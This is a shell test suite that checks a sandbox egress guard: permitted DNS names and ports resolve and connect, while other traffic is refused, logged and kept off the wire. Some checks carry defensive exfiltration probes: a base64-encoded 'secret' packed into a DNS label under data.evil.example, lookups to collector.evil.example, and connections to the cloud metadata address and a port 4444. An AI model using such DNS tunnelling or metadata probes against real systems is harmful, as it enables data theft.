# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash
#
# What must hold in every leased namespace, whatever the guest looks like.
# Sourced after world.sh; AS is how a command runs as the guest of a lease,
# `inside` (the namespace itself) or `guest` (behind a tap).

AS=${AS:-inside}

run() { $AS "$@"; }
fetch() {
	local id=$1
	shift
	run "$id" curl -sS -m 5 --cacert $CA "$@"
}
resolve() { # ID NAME [TYPE [tcp]]: by the resolver the guest was given
	local id=$1
	shift
	run "$id" $EG dig "$(resolver_of "$id")" "$@"
}
resolver_of() {
	case $AS in
	guest) of "$1" guest.gateway ;;
	*) of "$1" dns.0 ;;
	esac
}

# refused ID DST PORT [udp]: fails, and at once, not by a timeout
refused() {
	local out
	out=$(run "$1" $EG connect "$2" "$3" "${4:-tcp}")
	case $out in
	refused* | unreachable*) return 0 ;;
	esac
	say "$out"
	return 1
}

# stays_out ID WHAT REASON DST PORT [udp]: denied in time, recorded, not sent
stays_out() {
	local id=$1 what=$2 reason=$3 dst=$4 port=$5 proto=${6:-tcp}
	check "$what ($dst $proto/$port) is denied at once" \
		within 6000 refused "$id" "$dst" "$port" "$proto"
	check "  and recorded as $reason" denied "$id" layer=packet \
		reason="$reason" dst="$dst" dport="$port" proto="$proto"
	check "  and no packet of it left" \
		not wire_saw "$dst" "$port" "$proto"
}

allowed_works() { # ID
	local id=$1
	check "a listed name resolves through the guard" \
		eq "$(resolve "$id" app.demo.example)" "NOERROR 198.51.100.80"
	check "and over TCP" \
		eq "$(resolve "$id" app.demo.example A tcp)" "NOERROR 198.51.100.80"
	check "HTTPS to it works" \
		eq "$(fetch "$id" https://app.demo.example/)" "hello from app:443"
	check "a name behind a chain of aliases works" \
		eq "$(fetch "$id" https://alias.demo.example/)" "hello from app:443"
	check "a name below a wildcard works" \
		eq "$(fetch "$id" http://a1.wild.demo.example/)" "hello from other:80"
	check "an answer with a TTL of nothing works" \
		eq "$(fetch "$id" http://zero.demo.example/)" "hello from app:80"
	check "UDP to a listed port works" \
		run "$id" $EG connect "$(resolve "$id" echo.demo.example |
			sed 's/.* //')" 7 udp
	check "a listed address works without a name" \
		run "$id" $EG connect 203.0.113.130 9000
	check "a private service both sides permit works" \
		eq "$(fetch "$id" https://k8s.internal.example:6443/)" \
		"hello from internal:6443"
}

names_stay_in() { # ID
	local id=$1
	check "a name not listed does not exist" \
		eq "$(resolve "$id" collector.evil.example)" NXDOMAIN
	check "  and is recorded by name" denied "$id" layer=dns \
		reason=dns-denied qname=collector.evil.example
	check "data in a name does not leave" \
		eq "$(resolve "$id" c2VjcmV0.data.evil.example)" NXDOMAIN
	check "two labels are more than * allows" \
		eq "$(resolve "$id" a.b.wild.demo.example)" NXDOMAIN
	check "a public resolver is answered by the guard: listed" \
		eq "$(run "$id" $EG dig 203.0.113.8 app.demo.example)" \
		"NOERROR 198.51.100.80"
	check "a public resolver is answered by the guard: not listed" \
		eq "$(run "$id" $EG dig 203.0.113.8 whatever.evil.example)" NXDOMAIN
	check "  and over TCP" \
		eq "$(run "$id" $EG dig 203.0.113.8 whatever.evil.example A tcp)" \
		NXDOMAIN
	check "  and the public resolver never heard of it" not served resolver
	check "  nor did a packet go there" not wire_saw 203.0.113.8
}

packets_stay_in() { # ID OTHER: another lease
	local id=$1 other=$2
	stays_out "$id" "a raw address" not-allowed 203.0.113.66 443
	stays_out "$id" "a raw address over UDP" not-allowed 203.0.113.66 4444 udp
	stays_out "$id" "a port not listed of a listed name" not-allowed \
		198.51.100.80 8443
	stays_out "$id" "a listed port by another protocol" not-allowed \
		198.51.100.80 443 udp
	stays_out "$id" "the metadata address" metadata 169.254.169.254 80
	stays_out "$id" "RFC 1918" private 10.3.0.10 443
	stays_out "$id" "RFC 1918" private 192.168.1.1 22
	stays_out "$id" "RFC 1918" private 172.20.0.1 22
	stays_out "$id" "link-local" reserved 169.254.7.7 80
	stays_out "$id" "the host's own address" host 192.0.2.10 8022
	stays_out "$id" "the host's own address over UDP" host 192.0.2.10 8022 udp
	stays_out "$id" "the host's end of a gateway's link" host 10.201.0.1 8022
	stays_out "$id" "another slot" host "$(of "$other" address)" 80
	stays_out "$id" "a public resolver over TLS" not-allowed 203.0.113.8 853
	check "nothing has reached the collector, the host or the metadata service" \
		not served 'collector|hostsvc|metadata'
}
